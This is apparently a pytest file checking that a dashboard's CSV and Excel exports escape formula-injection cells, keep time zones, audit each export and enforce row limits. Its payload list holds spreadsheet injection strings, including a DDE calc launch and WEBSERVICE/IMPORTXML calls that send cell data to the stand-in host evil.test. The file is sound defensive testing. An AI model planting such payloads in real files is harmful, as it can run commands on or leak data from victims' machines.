"""Files people take away: no cell a spreadsheet would run, and each of them recorded."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from decimal import Decimal
from itertools import product
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest

from dashboards.components.format import Format
from dashboards.export import Sheet, file_bytes, safe_text
from orderhouse.access import get_policy
from orderhouse.ledger import AuditFilter, Denied, Ledger, audit_rows
from orderhouse.settings import get_settings
from tests.support.people import signed_in

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"]
BODIES = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.test","x")', "SUM(A1:A9)*2",
    'IMPORTXML("http://evil.test","//a")', 'WEBSERVICE("http://evil.test/?"&A1)',
    "DDE(\"cmd\";\"/C calc\";\"x\")", "A1;B2",
]  # fmt: skip
NOON = datetime(2026, 11, 21, 12, 0)
PADS = ["", " ", "\u3000"]
PAYLOADS = [pad + start + body for pad, start, body in product(PADS, STARTS, BODIES)]


def _context(ledger: Ledger, login: str, home: Path) -> Any:
    return SimpleNamespace(
        policy=get_policy(),
        ledger=ledger,
        session=signed_in(ledger, login),
        settings=get_settings(),
        snapshot=SimpleNamespace(build_id="b001"),
        zone=ZoneInfo("Asia/Shanghai"),
        fmt=Format("zh", ZoneInfo("Asia/Shanghai")),
    )


def _sheet(rows: list[dict[str, Any]]) -> Sheet:
    columns = [("order_id", "订单"), ("text", "原因"), ("amount", "金额"), ("placed_at", "下单")]
    return Sheet(
        name="test",
        title="测试",
        columns=columns,
        rows=lambda limit: rows[:limit],
        described="q=Q07",
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_starts_a_formula(payload: str) -> None:
    assert safe_text(payload) == "'" + payload


def test_ordinary_text_is_left_alone() -> None:
    for text in ("虹漕路 88 号", "a=b", "12-3", "", "（退款）"):
        assert safe_text(text) == text


def test_a_csv_opens_in_excel_and_holds_no_formula(ledger: Ledger, home: Path) -> None:
    rows = [
        {"order_id": f"o{n}", "text": text, "amount": Decimal("-12.5"), "placed_at": None}
        for n, text in enumerate(PAYLOADS)
    ]
    raw = file_bytes(_context(ledger, "ops-lead", home), _sheet(rows), "csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(lines) == len(rows) + 2
    assert [line[1] for line in lines[2:]] == ["'" + text for text in PAYLOADS]
    assert all(line[2] == "-12.5" for line in lines[2:])


def test_an_excel_file_holds_no_formula_and_no_link(ledger: Ledger, home: Path) -> None:
    rows = [
        {"order_id": f"o{n}", "text": text, "amount": Decimal("12.50"),
         "placed_at": datetime(2026, 11, 21)}
        for n, text in enumerate([*PAYLOADS, "http://evil.test"])
    ]  # fmt: skip
    raw = file_bytes(_context(ledger, "ops-lead", home), _sheet(rows), "xlsx")
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        page = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        assert not any("hyperlink" in name for name in book.namelist())
    tags = {element.tag.rpartition("}")[2] for element in page.iter()}
    assert "f" not in tags and "hyperlink" not in tags
    numbers = [c for c in page.iter() if c.tag.endswith("}c") and c.get("t") is None]
    assert len(numbers) >= len(rows)


def test_times_leave_in_the_zone_of_the_page(ledger: Ledger, home: Path) -> None:
    rows = [{"order_id": "o1", "placed_at": datetime(2026, 11, 21, 20, 0)}]
    raw = file_bytes(_context(ledger, "ops-lead", home), _sheet(rows), "csv").decode("utf-8-sig")
    assert "Asia/Shanghai" in raw.splitlines()[0]
    assert "2026-11-22 04:00:00" in raw


def test_an_export_is_recorded_before_it_is_handed_over(ledger: Ledger, home: Path) -> None:
    rows = [{"order_id": "o1", "text": "x", "amount": 1, "placed_at": None}]
    file_bytes(_context(ledger, "finance", home), _sheet(rows), "csv")
    total, found = audit_rows(ledger, AuditFilter(stream="access"))
    assert total == 1
    assert found[0].args == {"rows": 1, "kind": "csv", "filter": "q=Q07"}


def test_more_rows_than_a_post_may_take_are_not_made(ledger: Ledger, home: Path) -> None:
    many = [{"order_id": str(n)} for n in range(3_000)]
    greedy = Sheet(
        name="t", title="t", columns=[("order_id", "x")], rows=lambda _: many, described=""
    )
    with pytest.raises(Denied, match="export_too_large"):
        file_bytes(_context(ledger, "cs", home), greedy, "csv")
